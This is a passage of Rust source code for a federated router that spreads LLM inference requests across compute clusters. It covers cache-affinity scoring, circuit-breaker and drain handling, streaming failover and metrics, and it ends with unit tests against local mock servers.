            affinity_misses: AtomicU64::new(0),
            exhausted: AtomicU64::new(0),
        })
    }

    /// Install the model catalog (placement-aware spillover + richer
    /// status). Routing works without one — every cluster stays eligible.
    pub fn set_catalog(&self, catalog: Arc<ModelCatalog>) {
        *self.catalog.write().unwrap() = Some(catalog);
    }

    /// Plan the route for one request: ordered candidate clusters plus
    /// exclusions, with reason codes. Returns None when the path has no
    /// service segment (`/<service>/...`).
    pub fn route_plan(&self, req: &Request) -> Option<RoutePlan> {
        let mut parts = req.path.splitn(3, '/');
        let _ = parts.next();
        let service = parts.next().filter(|s| !s.is_empty())?.to_string();
        let prefix_hash = prefix_hash_for(req);
        let sticky_cluster = prefix_hash.and_then(|h| self.affinity.lookup(h));
        // A pin onto a draining cluster is treated like a pin onto a
        // breaker-open one: the warm KV blocks live on capacity that is
        // about to disappear, so the affinity bonus must not pull the
        // session back there. Dropping the pin before scoring re-homes
        // the session — `record_routed` pins it wherever this request
        // actually lands.
        let sticky_cluster = sticky_cluster.filter(|name| {
            self.registry
                .get(name)
                .map(|c| !c.route_view(&service).draining)
                .unwrap_or(true)
        });
        let weight = self.registry.config().cache_affinity_weight;
        let catalog = self.catalog.read().unwrap().clone();

        let mut scored: Vec<(usize, RouteCandidate)> = Vec::new();
        let mut excluded = Vec::new();
        for (idx, cluster) in self.registry.snapshot().into_iter().enumerate() {
            if let Some(cat) = catalog.as_deref() {
                if !cat.hosts(&service, &cluster.name) {
                    excluded.push(ExcludedCluster {
                        cluster,
                        reason: ReasonCode::NotInCatalog,
                    });
                    continue;
                }
            }
            let view = cluster.route_view(&service);
            if view.breaker_open {
                excluded.push(ExcludedCluster {
                    cluster,
                    reason: ReasonCode::BreakerOpen,
                });
                continue;
            }
            // Same availability tiers as ClusterRegistry::candidates.
            let tier = match (view.healthy, view.draining, view.has_ready) {
                (true, false, true) => 0,
                (true, true, true) => 1,
                (true, false, false) => 2,
                (true, true, false) => 3,
                (false, _, _) => 4,
            };
            // Sticky cluster: full bonus (its KV blocks are warm). Others:
            // a fraction of their measured hit rate — a cluster that
            // already reuses prefixes well is a better cold landing spot.
            let affinity = match prefix_hash {
                None => 0.0,
                Some(_) if sticky_cluster.as_deref() == Some(cluster.name.as_str()) => 1.0,
                Some(_) => 0.25 * view.expected_hit_rate,
            };
            let score = view.load - weight * affinity;
            let mut reasons = Vec::new();
            if affinity >= 1.0 {
                reasons.push(ReasonCode::CacheAffinity);
            }
            match tier {
                0 | 1 if !reasons.contains(&ReasonCode::CacheAffinity) => {
                    reasons.push(ReasonCode::LeastLoaded)
                }
                2 | 3 => reasons.push(ReasonCode::NoCapacity),
                4 => reasons.push(ReasonCode::Unprobed),
                _ => {}
            }
            if view.draining {
                reasons.push(ReasonCode::Draining);
            }
            scored.push((
                idx,
                RouteCandidate {
                    cluster,
                    tier,
                    load: view.load,
                    affinity,
                    score,
                    reasons,
                },
            ));
        }
        // Tier, then affinity-weighted load, then registration order. With
        // weight = 0 the score *is* the load, reproducing the registry's
        // candidates() order exactly.
        scored.sort_by(|(ai, a), (bi, b)| {
            a.tier
                .cmp(&b.tier)
                .then(a.score.partial_cmp(&b.score).unwrap_or(std::cmp::Ordering::Equal))
                .then(ai.cmp(bi))
        });
        Some(RoutePlan {
            service,
            prefix_hash,
            sticky_cluster,
            candidates: scored.into_iter().map(|(_, c)| c).collect(),
            excluded,
        })
    }

    /// Record where a hash-carrying request actually landed: pins the
    /// session to that cluster and counts warm (sticky) vs cold routing.
    fn record_routed(&self, plan_hash: Option<u64>, sticky: Option<&str>, cluster: &str) {
        let Some(hash) = plan_hash else { return };
        if sticky == Some(cluster) {
            self.affinity_hits.fetch_add(1, Ordering::Relaxed);
        } else {
            self.affinity_misses.fetch_add(1, Ordering::Relaxed);
        }
        self.affinity.record(hash, cluster);
    }

    /// Handle one HTTP request (the router's server handler body).
    pub fn handle(&self, req: &Request) -> Response {
        if req.path == "/healthz" {
            let any = self
                .registry
                .snapshot()
                .iter()
                .any(|c| c.status().healthy && !c.breaker_open());
            return if any {
                Response::text(200, "ok")
            } else {
                Response::error(503, "no healthy cluster")
            };
        }
        if req.path == "/federation/status" {
            return Response::json(200, &self.status_json());
        }

        // Plan the route: /<service>/<rest...> — same URL convention as
        // the HPC proxy.
        let Some(plan) = self.route_plan(req) else {
            return Response::error(400, "missing service segment");
        };

        self.requests.fetch_add(1, Ordering::Relaxed);
        if plan.candidates.is_empty() {
            self.exhausted.fetch_add(1, Ordering::Relaxed);
            return Response::error(503, "no cluster available");
        }
        let service = plan.service.as_str();

        // This hop's span clock: receipt → first body byte, spillover
        // attempts included (the client pays for them, so the trace
        // attributes them here).
        let trace_id = req.header("x-chat-ai-trace").and_then(trace::TraceId::parse);
        let t0 = std::time::Instant::now();
        let _trace_scope = trace_id.map(trace::scoped);

        if req.wants_stream() {
            return self.forward_streaming(req, &plan, trace_id, t0);
        }

        let mut last = Response::error(502, "all clusters failed");
        for (attempt, candidate) in plan.candidates.iter().take(self.max_attempts).enumerate() {
            let cluster = &candidate.cluster;
            cluster.requests.fetch_add(1, Ordering::Relaxed);
            match self.forward(req, cluster) {
                Ok(resp) if !retryable_status(resp.status) => {
                    cluster.record_request_success();
                    if attempt > 0 {
                        self.failovers.fetch_add(1, Ordering::Relaxed);
                    }
                    self.record_routed(
                        plan.prefix_hash,
                        plan.sticky_cluster.as_deref(),
                        &cluster.name,
                    );
                    if let Some(id) = trace_id {
                        trace::record(id, trace::Hop::Router, trace::Stage::Ttfb, t0.elapsed());
                    }
                    return resp.with_header("x-cluster", &cluster.name);
                }
                Ok(resp) => {
                    // Saturated / mid-drain / stale routing: try the next
                    // cluster. Every 5xx counts toward the breaker.
                    if resp.status >= 500 {
                        cluster.record_request_failure();
                    }
                    log::debug!(
                        target: "federation",
                        "cluster {} answered {} for {service}; spilling over ({})",
                        candidate.describe(), resp.status, describe_spillover(&plan, attempt)
                    );
                    last = resp;
                }
                Err(e) => {
                    cluster.record_request_failure();
                    log::warn!(
                        target: "federation",
                        "cluster {} unreachable for {service}: {e}; spilling over ({})",
                        candidate.describe(), describe_spillover(&plan, attempt)
                    );
                    last = Response::error(502, &format!("cluster {} unreachable: {e}", cluster.name));
                }
            }
        }
        self.exhausted.fetch_add(1, Ordering::Relaxed);
        last
    }

    fn forward(&self, req: &Request, cluster: &Cluster) -> Result<Response, HttpError> {
        let up_req = rebuild_request(req);
        crate::util::http::pooled(&cluster.endpoint)
            .and_then(|mut client| client.send(&up_req))
            .map(|up| {
                let mut resp = Response::new(up.status);
                if let Some(ct) = up.headers.get("content-type") {
                    resp = resp.with_header("content-type", ct);
                }
                if let Some(ra) = up.headers.get("retry-after") {
                    // Admission-control sheds keep their backoff hint even
                    // after spillover exhausts every cluster.
                    resp = resp.with_header("retry-after", ra);
                }
                resp.with_body(up.body)
            })
    }

    /// Streaming forward with pre-commit failover: clusters are tried in
    /// order until one answers with a non-retryable head; only then is the
    /// stream committed to the client (a stream cannot be replayed after
    /// its first byte, but before the head arrives spillover is still
    /// safe). If every candidate fails, the client gets a real 502 — not a
    /// silent empty 200.
    fn forward_streaming(
        &self,
        req: &Request,
        plan: &RoutePlan,
        trace_id: Option<trace::TraceId>,
        t0: std::time::Instant,
    ) -> Response {
        struct Head {
            status: u16,
            content_type: Option<String>,
            cluster: String,
            attempt: usize,
        }
        let up_req = rebuild_request(req);
        let tries: Vec<Arc<Cluster>> = plan
            .candidates
            .iter()
            .take(self.max_attempts)
            .map(|c| c.cluster.clone())
            .collect();
        // Reason-code strings for the pump thread's spillover logs (the
        // plan itself stays on this thread).
        let try_descs: Vec<String> = plan
            .candidates
            .iter()
            .take(self.max_attempts)
            .enumerate()
            .map(|(i, c)| format!("{} ({})", c.describe(), describe_spillover(plan, i)))
            .collect();
        let service = plan.service.clone();
        let (head_tx, head_rx) = std::sync::mpsc::sync_channel::<Option<Head>>(1);
        let (chunk_tx, chunk_rx) =
            std::sync::mpsc::sync_channel::<crate::util::http::PooledBuf>(64);
        let relay = self.relay;
        std::thread::spawn(move || {
            let pool = relay.then(crate::util::http::relay_pool);
            let _trace_scope = trace_id.map(trace::scoped);
            // First committed body byte across all attempts (once a stream
            // commits there are no further attempts, so one latch is safe).
            let ttfb_recorded = std::cell::Cell::new(false);
            for (attempt, cluster) in tries.iter().enumerate() {
                cluster.requests.fetch_add(1, Ordering::Relaxed);
                // Committed once a head worth streaming has been forwarded;
                // chunks are only passed through after that point — as
                // opaque pool-recycled buffers, never copied or parsed.
                let committed = std::cell::Cell::new(false);
                // Pool checkout per attempt: a clean drain parks the
                // keep-alive connection for the next request to this
                // cluster; a failed or aborted stream discards it.
                let result = crate::util::http::pooled(&cluster.endpoint).and_then(|mut client| {
                    client.relay_until(
                        &up_req,
                        pool.as_ref(),
                        |status, headers| {
                            if !retryable_status(status) {
                                committed.set(true);
                                let _ = head_tx.send(Some(Head {
                                    status,
                                    content_type: headers.get("content-type").cloned(),
                                    cluster: cluster.name.clone(),
                                    attempt,
                                }));
                            }
                        },
                        |chunk| {
                            if committed.get() {
                                if !ttfb_recorded.get() {
                                    ttfb_recorded.set(true);
                                    if let Some(id) = trace_id {
                                        trace::record(
                                            id,
                                            trace::Hop::Router,
                                            trace::Stage::Ttfb,
                                            t0.elapsed(),
                                        );
                                    }
                                }
                                // A failed send means the pump thread saw the
                                // client hang up: stop reading so the
                                // disconnect propagates into the cluster.
                                if chunk_tx.send(chunk).is_err() {
                                    return false;
                                }
                            }
                            true
                        },
                    )
                });
                match result {
                    Ok(_) if committed.get() => {
                        // Complete, or aborted because the client went
                        // away — the cluster served correctly either way.
                        cluster.record_request_success();
                        return;
                    }
                    Ok(_) => {
                        // Retryable head (404/5xx): spill to the next cluster.
                        cluster.record_request_failure();
                        log::debug!(
                            target: "federation",
                            "streaming {service}: {} answered retryable head; spilling over",
                            try_descs[attempt]
                        );
                    }
                    Err(e) => {
                        cluster.record_request_failure();
                        if committed.get() {
                            // Mid-stream failure: the client already saw
                            // bytes; hang up instead of replaying.
                            return;
                        }
                        log::warn!(
                            target: "federation",
                            "streaming {service}: {} unreachable: {e}; spilling over",
                            try_descs[attempt]
                        );
                    }
                }
            }
            let _ = head_tx.send(None);
        });
        match head_rx.recv() {
            Ok(Some(head)) => {
                if head.attempt > 0 {
                    self.failovers.fetch_add(1, Ordering::Relaxed);
                }
                self.record_routed(
                    plan.prefix_hash,
                    plan.sticky_cluster.as_deref(),
                    &head.cluster,
                );
                let (resp, tx) = Response::stream(head.status, 64);
                let resp = resp.with_relay(self.relay);
                std::thread::spawn(move || {
                    for chunk in chunk_rx {
                        if tx.send(chunk).is_err() {
                            break; // client went away
                        }
                    }
                });
                resp.with_header(
                    "content-type",
                    head.content_type.as_deref().unwrap_or("text/event-stream"),
                )
                .with_header("x-cluster", &head.cluster)
            }
            Ok(None) | Err(_) => {
                self.exhausted.fetch_add(1, Ordering::Relaxed);
                Response::error(502, "all clusters failed (streaming)")
            }
        }
    }

    /// Federation status document (`/federation/status`).
    pub fn status_json(&self) -> Json {
        let mut clusters = Json::obj();
        for cluster in self.registry.snapshot() {
            let st = cluster.status();
            let mut services = Json::obj();
            let mut names: Vec<&String> = st.services.keys().collect();
            names.sort();
            for name in names {
                let h = &st.services[name];
                services = services.set(
                    name,
                    Json::obj()
                        .set("instances", h.instances)
                        .set("ready", h.ready)
                        .set("draining", h.draining)
                        .set("in_flight", h.in_flight)
                        .set("expected_hit_rate", h.expected_hit_rate)
                        .set("prefill_tokens_saved", h.prefill_tokens_saved),
                );
            }
            clusters = clusters.set(
                &cluster.name,
                Json::obj()
                    .set("endpoint", cluster.endpoint.as_str())
                    .set("healthy", st.healthy)
                    .set("draining", st.draining)
                    .set("breaker_open", st.breaker_open)
                    .set("consecutive_failures", st.consecutive_failures as u64)
                    .set("requests", cluster.requests.load(Ordering::Relaxed))
                    .set(
                        "request_failures",
                        cluster.request_failures.load(Ordering::Relaxed),
                    )
                    .set("services", services),
            );
        }
        let mut out = Json::obj()
            .set("requests", self.requests.load(Ordering::Relaxed))
            .set("failovers", self.failovers.load(Ordering::Relaxed))
            .set("affinity_hits", self.affinity_hits.load(Ordering::Relaxed))
            .set("affinity_misses", self.affinity_misses.load(Ordering::Relaxed))
            .set("affinity_sessions", self.affinity.len() as u64)
            .set("exhausted", self.exhausted.load(Ordering::Relaxed))
            .set("clusters", clusters);
        if let Some(catalog) = self.catalog.read().unwrap().as_deref() {
            out = out.set("models", catalog.models_json(Some(&self.registry)));
        }
        out
    }

    /// Prometheus text for the monitoring registry.
    pub fn metrics_text(&self) -> String {
        let mut out = format!(
            "federation_requests_total {}\nfederation_failovers_total {}\n\
             federation_exhausted_total {}\n\
             federation_affinity_hits_total {}\n\
             federation_affinity_misses_total {}\n\
             federation_affinity_sessions {}\n",
            self.requests.load(Ordering::Relaxed),
            self.failovers.load(Ordering::Relaxed),
            self.exhausted.load(Ordering::Relaxed),
            self.affinity_hits.load(Ordering::Relaxed),
            self.affinity_misses.load(Ordering::Relaxed),
            self.affinity.len(),
        );
        for cluster in self.registry.snapshot() {
            let st = cluster.status();
            let ready: u64 = st.services.values().map(|h| h.ready).sum();
            let in_flight: u64 = st.services.values().map(|h| h.in_flight).sum();
            let saved: u64 = st.services.values().map(|h| h.prefill_tokens_saved).sum();
            out.push_str(&format!(
                "federation_cluster_requests_total{{cluster=\"{0}\"}} {1}\n\
                 federation_cluster_failures_total{{cluster=\"{0}\"}} {2}\n\
                 federation_cluster_healthy{{cluster=\"{0}\"}} {3}\n\
                 federation_cluster_breaker_open{{cluster=\"{0}\"}} {4}\n\
                 federation_cluster_ready_instances{{cluster=\"{0}\"}} {5}\n\
                 federation_cluster_in_flight{{cluster=\"{0}\"}} {6}\n\
                 federation_cluster_prefill_tokens_saved_total{{cluster=\"{0}\"}} {7}\n",
                cluster.name,
                cluster.requests.load(Ordering::Relaxed),
                cluster.request_failures.load(Ordering::Relaxed),
                st.healthy as u8,
                st.breaker_open as u8,
                ready,
                in_flight,
                saved,
            ));
            let mut names: Vec<&String> = st.services.keys().collect();
            names.sort();
            for name in names {
                out.push_str(&format!(
                    "federation_cluster_expected_hit_rate{{cluster=\"{}\",service=\"{}\"}} {}\n",
                    cluster.name, name, st.services[name].expected_hit_rate,
                ));
            }
        }
        out
    }

    pub fn serve(self: &Arc<FederatedRouter>, addr: &str, workers: usize) -> std::io::Result<Server> {
        let this = self.clone();
        let handler: Handler = Arc::new(move |req| this.handle(req));
        Server::serve(addr, "federated-router", workers, handler)
    }
}

/// Statuses that justify trying another cluster: the service may be known
/// and healthy elsewhere (404 = not in this cluster's routing table, any
/// 5xx = broken/saturated/unreachable here — all of them count toward the
/// cluster's breaker, so a persistently erroring cluster gets benched).
fn retryable_status(status: u16) -> bool {
    status == 404 || status >= 500
}

/// The session routing key: the chained-FNV hash of the prompt's opening
/// KV block. Only POST bodies with a parseable chat/completion payload
/// hash; everything else (GETs, malformed bodies) routes purely by load.
fn prefix_hash_for(req: &Request) -> Option<u64> {
    if req.method != "POST" || req.body.is_empty() {
        return None;
    }
    let body = crate::util::json::parse(std::str::from_utf8(&req.body).ok()?).ok()?;
    let prompt = match body.get("messages").and_then(Json::as_arr) {
        // Render exactly as the engine's chat endpoint does, so turn N+1's
        // prompt is a strict prefix-extension of turn N's and the opening
        // block (hence the hash) is stable across the conversation.
        Some(messages) => crate::llm::server::render_chat_prompt(messages),
        None => body.str_field("prompt")?.to_string(),
    };
    if prompt.is_empty() {
        return None;
    }
    let tokens = crate::llm::tokenizer::encode(&prompt);
    Some(prefix_route_hash(&tokens, ROUTE_BLOCK_TOKENS))
}

/// Spillover log context: where the request goes next, plus any clusters
/// the plan ruled out up front (catalog placement, open breakers).
fn describe_spillover(plan: &RoutePlan, attempt: usize) -> String {
    let next = match plan.candidates.get(attempt + 1) {
        Some(c) => format!("next {}", c.describe()),
        None => "no candidates left".to_string(),
    };
    if plan.excluded.is_empty() {
        return next;
    }
    let excluded: Vec<String> = plan
        .excluded
        .iter()
        .map(|e| format!("{}[{}]", e.cluster.name, e.reason.as_str()))
        .collect();
    format!("{next}; excluded {}", excluded.join(","))
}

fn rebuild_request(req: &Request) -> Request {
    let mut up = Request::new(&req.method, &req.path).with_body(req.body.clone());
    up.query = req.query.clone();
    for (k, v) in &req.headers {
        if k != "host" && k != "content-length" && k != "connection" {
            up = up.with_header(k, v);
        }
    }
    up
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::FederationConfig;
    use crate::util::http::Client;
    use crate::federation::registry::ServiceHealth;
    use std::collections::HashMap;
    use std::time::Duration;

    fn mock_cluster_proxy(name: &'static str, fail: bool) -> Server {
        Server::serve(
            "127.0.0.1:0",
            "mock-hpc-proxy",
            4,
            Arc::new(move |req: &Request| {
                if fail {
                    Response::error(503, "no ready instance")
                } else {
                    Response::json(
                        200,
                        &Json::obj()
                            .set("cluster", name)
                            .set("path", req.path.as_str()),
                    )
                }
            }),
        )
        .unwrap()
    }

    fn setup(cfg: FederationConfig) -> Arc<ClusterRegistry> {
        ClusterRegistry::new(cfg)
    }

    fn health(ready: u64, in_flight: u64) -> ServiceHealth {
        ServiceHealth {
            instances: ready,
            ready,
            in_flight,
            ..Default::default()
        }
    }

    fn ready_map() -> HashMap<String, ServiceHealth> {
        HashMap::from([("llama".to_string(), health(1, 0))])
    }

    #[test]
    fn routes_to_best_cluster_and_tags_response() {
        let reg = setup(FederationConfig::default());
        let up = mock_cluster_proxy("emmy", false);
        let c = reg.register("emmy", None, &up.addr().to_string());
        c.record_probe_ok(ready_map());
        let router = FederatedRouter::new(reg);
        let server = router.serve("127.0.0.1:0", 4).unwrap();
        let mut client = Client::new(&server.url());
        let resp = client.get("/llama/v1/models").unwrap();
        assert_eq!(resp.status, 200);
        assert_eq!(resp.headers.get("x-cluster").map(String::as_str), Some("emmy"));
        let v = resp.json().unwrap();
        assert_eq!(v.str_field("cluster"), Some("emmy"));
        assert_eq!(v.str_field("path"), Some("/llama/v1/models"));
    }

    #[test]
    fn spills_over_when_first_cluster_is_saturated() {
        let reg = setup(FederationConfig::default());
        let sat = mock_cluster_proxy("sat", true);
        let ok = mock_cluster_proxy("ok", false);
        let a = reg.register("sat", None, &sat.addr().to_string());
        let b = reg.register("ok", None, &ok.addr().to_string());
        // Saturated cluster looks *better* (more ready instances) so the
        // router picks it first and must fail over on its 503.
        a.record_probe_ok(HashMap::from([("llama".to_string(), health(4, 0))]));
        b.record_probe_ok(HashMap::from([("llama".to_string(), health(1, 1))]));
        let router = FederatedRouter::new(reg);
        let server = router.serve("127.0.0.1:0", 4).unwrap();
        let mut client = Client::new(&server.url());
        let resp = client.get("/llama/v1/models").unwrap();
        assert_eq!(resp.status, 200);
        assert_eq!(resp.headers.get("x-cluster").map(String::as_str), Some("ok"));
        assert_eq!(router.failovers.load(Ordering::Relaxed), 1);
    }

    #[test]
    fn dead_cluster_fails_over_and_trips_breaker() {
        let reg = setup(FederationConfig {
            breaker_failures: 2,
            breaker_cooldown: Duration::from_secs(60),
            ..Default::default()
        });
        // A dead endpoint: bind and immediately drop.
        let dead = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let dead_addr = dead.local_addr().unwrap().to_string();
        drop(dead);
        let ok = mock_cluster_proxy("ok", false);
        let a = reg.register("dead", None, &dead_addr);
        let b = reg.register("ok", None, &ok.addr().to_string());
        a.record_probe_ok(ready_map());
        b.record_probe_ok(HashMap::from([("llama".to_string(), health(1, 3))]));
        let router = FederatedRouter::new(reg.clone());
        let server = router.serve("127.0.0.1:0", 4).unwrap();
        let mut client = Client::new(&server.url());
        for _ in 0..2 {
            let resp = client.get("/llama/v1/models").unwrap();
            assert_eq!(resp.status, 200, "failover succeeded");
            assert_eq!(resp.headers.get("x-cluster").map(String::as_str), Some("ok"));
        }
        assert!(reg.get("dead").unwrap().breaker_open(), "breaker tripped");
        // With the breaker open the dead cluster isn't even attempted.
        let before = reg.get("dead").unwrap().requests.load(Ordering::Relaxed);
        client.get("/llama/v1/models").unwrap();
        assert_eq!(reg.get("dead").unwrap().requests.load(Ordering::Relaxed), before);
    }

    #[test]
    fn no_cluster_is_503_and_bad_path_is_400() {
        let reg = setup(FederationConfig::default());
        let router = FederatedRouter::new(reg);
        let server = router.serve("127.0.0.1:0", 2).unwrap();
        let mut client = Client::new(&server.url());
        assert_eq!(client.get("/llama/v1/x").unwrap().status, 503);
        assert_eq!(client.get("/").unwrap().status, 400);
        assert_eq!(router.exhausted.load(Ordering::Relaxed), 1);
    }

    #[test]
    fn retryable_statuses() {
        for s in [404, 500, 502, 503, 504, 599] {
            assert!(retryable_status(s), "{s}");
        }
        for s in [200, 201, 400, 401, 403, 429] {
            assert!(!retryable_status(s), "{s}");
        }
    }

    #[test]
    fn streaming_fails_over_before_first_byte() {
        let reg = setup(FederationConfig::default());
        let dead = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let dead_addr = dead.local_addr().unwrap().to_string();
        drop(dead);
        let ok = Server::serve(
            "127.0.0.1:0",
            "mock-stream",
            4,
            Arc::new(|_req: &Request| {
                let (resp, tx) = Response::stream(200, 8);
                std::thread::spawn(move || {
                    for part in ["tok1;", "tok2;"] {
                        let _ = tx.send(part.as_bytes().to_vec().into());
                    }
                });
                resp.with_header("content-type", "text/event-stream")
            }),
        )
        .unwrap();
        let a = reg.register("dead", None, &dead_addr);
        let b = reg.register("ok", None, &ok.addr().to_string());
        // Dead cluster looks best so streaming must spill over pre-commit.
        a.record_probe_ok(HashMap::from([("llama".to_string(), health(4, 0))]));
        b.record_probe_ok(ready_map());
        let router = FederatedRouter::new(reg);
        let server = router.serve("127.0.0.1:0", 4).unwrap();
        let mut client = Client::new(&server.url());
        let req = Request::new("POST", "/llama/v1/chat/completions")
            .with_body(br#"{"stream":true}"#.to_vec());
        let mut body = Vec::new();
        let resp = client
            .send_streaming(&req, |chunk| body.extend_from_slice(chunk))
            .unwrap();
        assert_eq!(resp.status, 200);
        assert_eq!(resp.headers.get("x-cluster").map(String::as_str), Some("ok"));
        assert_eq!(String::from_utf8_lossy(&body), "tok1;tok2;");
        assert_eq!(router.failovers.load(Ordering::Relaxed), 1);
    }

    #[test]
    fn streaming_with_no_survivor_is_a_real_502() {
        let reg = setup(FederationConfig::default());
        let dead = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let dead_addr = dead.local_addr().unwrap().to_string();
        drop(dead);
        let a = reg.register("dead", None, &dead_addr);
        a.record_probe_ok(ready_map());
        let router = FederatedRouter::new(reg);
        let server = router.serve("127.0.0.1:0", 2).unwrap();
        let mut client = Client::new(&server.url());
        let req = Request::new("POST", "/llama/v1/chat/completions")
            .with_body(br#"{"stream":true}"#.to_vec());
        let resp = client.send(&req).unwrap();
        assert_eq!(resp.status, 502, "no silent empty 200");
    }

    #[test]
    fn status_and_metrics_render() {
        let reg = setup(FederationConfig::default());
        let up = mock_cluster_proxy("emmy", false);
        let c = reg.register("emmy", None, &up.addr().to_string());
        c.record_probe_ok(ready_map());
        let router = FederatedRouter::new(reg);
        let server = router.serve("127.0.0.1:0", 2).unwrap();
        let mut client = Client::new(&server.url());
        client.get("/llama/v1/models").unwrap();
        let status = client.get("/federation/status").unwrap().json().unwrap();
        let emmy = status.get("clusters").unwrap().get("emmy").unwrap();
        assert_eq!(emmy.bool_field("healthy"), Some(true));
        assert_eq!(emmy.u64_field("requests"), Some(1));
        let text = router.metrics_text();
        assert!(text.contains("federation_requests_total 1"), "{text}");
        assert!(
            text.contains("federation_cluster_healthy{cluster=\"emmy\"} 1"),
            "{text}"
        );
        assert!(text.contains("federation_affinity_hits_total"), "{text}");
        assert!(
            text.contains("federation_cluster_prefill_tokens_saved_total{cluster=\"emmy\"} 0"),
            "{text}"
        );
        assert_eq!(client.get("/healthz").unwrap().status, 200);
    }

    fn chat_request(session: &str, turns: usize) -> Request {
        let mut messages = Vec::new();
        for i in 0..turns {
            messages.push(
                Json::obj()
                    .set("role", "user")
                    .set("content", format!("{session} says hello on turn {i}").as_str()),
            );
        }
        let body = Json::obj().set("messages", messages).set("max_tokens", 4u64);
        Request::new("POST", "/llama/v1/chat/completions")
            .with_header("content-type", "application/json")
            .with_body(body.to_string().into_bytes())
    }

    #[test]
    fn prefix_hash_is_stable_across_turns_and_absent_on_gets() {
        let reg = setup(FederationConfig::default());
        reg.register("emmy", None, "127.0.0.1:1");
        let router = FederatedRouter::new(reg);
        let turn1 = router.route_plan(&chat_request("session-alpha", 1)).unwrap();
        let turn2 = router.route_plan(&chat_request("session-alpha", 3)).unwrap();
        let other = router.route_plan(&chat_request("different-session", 1)).unwrap();
        assert!(turn1.prefix_hash.is_some());
        assert_eq!(turn1.prefix_hash, turn2.prefix_hash, "same session, same key");
        assert_ne!(turn1.prefix_hash, other.prefix_hash, "sessions distinguishable");
        let get = router.route_plan(&Request::new("GET", "/llama/v1/models")).unwrap();
        assert_eq!(get.prefix_hash, None);
        let garbage = Request::new("POST", "/llama/v1/chat/completions")
            .with_body(b"not json".to_vec());
        assert_eq!(router.route_plan(&garbage).unwrap().prefix_hash, None);
        let completion = Request::new("POST", "/llama/v1/completions")
            .with_body(br#"{"prompt":"tell me a story"}"#.to_vec());
        assert!(router.route_plan(&completion).unwrap().prefix_hash.is_some());
        assert!(router.route_plan(&Request::new("GET", "/")).is_none(), "no service");
    }

    #[test]
    fn zero_weight_reproduces_load_balance_order() {
        let reg = setup(FederationConfig {
            cache_affinity_weight: 0.0,
            ..Default::default()
        });
        let a = reg.register("a", None, "127.0.0.1:1");
        let b = reg.register("b", None, "127.0.0.1:2");
        reg.register("c", None, "127.0.0.1:3");
        let d = reg.register("d", None, "127.0.0.1:4");
        a.record_probe_ok(HashMap::from([("llama".to_string(), health(2, 3))]));
        b.record_probe_ok(HashMap::from([("llama".to_string(), health(2, 1))]));
        d.record_probe_ok(HashMap::from([("llama".to_string(), health(1, 0))]));
        reg.set_draining("d", true);
        let router = FederatedRouter::new(reg.clone());
        let req = chat_request("session-zero-weight", 2);
        // Pin the session to the most loaded cluster; with weight 0 the
        // pin must not bend the order away from PR 1's.
        let hash = router.route_plan(&req).unwrap().prefix_hash.unwrap();
        router.affinity.record(hash, "a");
        let plan = router.route_plan(&req).unwrap();
        assert_eq!(plan.sticky_cluster.as_deref(), Some("a"));
        let planned: Vec<String> = plan
            .candidates
            .iter()
            .map(|c| c.cluster.name.clone())
            .collect();
        let legacy: Vec<String> = reg
            .candidates("llama")
            .iter()
            .map(|c| c.name.clone())
            .collect();
        assert_eq!(planned, legacy, "weight 0 must reproduce candidates()");
        assert_eq!(planned, vec!["b", "a", "c", "d"]);
        for c in &plan.candidates {
            assert_eq!(c.score, c.load, "weight 0: score degenerates to load");
        }
    }

    #[test]
    fn chat_sessions_stick_to_their_warm_cluster() {
        let reg = setup(FederationConfig::default()); // weight 0.5
        let ua = mock_cluster_proxy("emmy", false);
        let ub = mock_cluster_proxy("grete", false);
        let a = reg.register("emmy", None, &ua.addr().to_string());
        let b = reg.register("grete", None, &ub.addr().to_string());
        a.record_probe_ok(HashMap::from([("llama".to_string(), health(1, 0))]));
        b.record_probe_ok(HashMap::from([("llama".to_string(), health(1, 0))]));
        let router = FederatedRouter::new(reg);
        let server = router.serve("127.0.0.1:0", 4).unwrap();
        let mut client = Client::new(&server.url());
        // Turn 1: balanced load, registration order picks emmy.
        let resp = client.send(&chat_request("session-sticky-alpha", 1)).unwrap();
        assert_eq!(resp.headers.get("x-cluster").map(String::as_str), Some("emmy"));
        // Emmy is now busier — a fresh session balances to grete, but the
        // pinned session's affinity bonus outweighs the load gap.
        a.record_probe_ok(HashMap::from([("llama".to_string(), health(5, 2))]));
        let resp = client.send(&chat_request("session-sticky-alpha", 2)).unwrap();
        assert_eq!(
            resp.headers.get("x-cluster").map(String::as_str),
            Some("emmy"),
            "multi-turn session sticks to its warm cluster"
        );
        assert_eq!(router.affinity_hits.load(Ordering::Relaxed), 1);
        let resp = client.send(&chat_request("session-sticky-beta", 1)).unwrap();
        assert_eq!(
            resp.headers.get("x-cluster").map(String::as_str),
            Some("grete"),
            "fresh sessions still balance by load"
        );
        let plan = router.route_plan(&chat_request("session-sticky-alpha", 3)).unwrap();
        assert!(plan.candidates[0].reasons.contains(&ReasonCode::CacheAffinity));
    }

    #[test]
    fn sticky_session_rehomes_when_warm_cluster_drains() {
        let reg = setup(FederationConfig::default()); // weight 0.5
        let a = reg.register("emmy", None, "127.0.0.1:1");
        let b = reg.register("grete", None, "127.0.0.1:2");
        a.record_probe_ok(HashMap::from([("llama".to_string(), health(1, 0))]));
        b.record_probe_ok(HashMap::from([("llama".to_string(), health(1, 0))]));
        let router = FederatedRouter::new(reg.clone());
        let req = chat_request("session-drain-delta", 2);
        let hash = router.route_plan(&req).unwrap().prefix_hash.unwrap();
        router.affinity.record(hash, "emmy");
        assert_eq!(
            router.route_plan(&req).unwrap().sticky_cluster.as_deref(),
            Some("emmy")
        );
        // Emmy's only instance takes a preemption notice: the pin is
        // dropped like a breaker-open pin, before scoring, so the bonus
        // cannot pull the session onto dying capacity.
        a.record_probe_ok(HashMap::from([(
            "llama".to_string(),
            ServiceHealth {
                instances: 1,
                ready: 1,
                in_flight: 0,
                draining: 1,
                ..Default::default()
            },
        )]));
        let plan = router.route_plan(&req).unwrap();
        assert_eq!(plan.sticky_cluster, None, "draining pin is ignored");
        assert_eq!(plan.candidates[0].cluster.name, "grete");
        assert!(plan
            .candidates
            .iter()
            .any(|c| c.cluster.name == "emmy"
                && c.reasons.contains(&ReasonCode::Draining)));
        // An operator-level cluster drain drops the pin the same way.
        router.affinity.record(hash, "grete");
        reg.set_draining("grete", true);
        assert_eq!(router.route_plan(&req).unwrap().sticky_cluster, None);
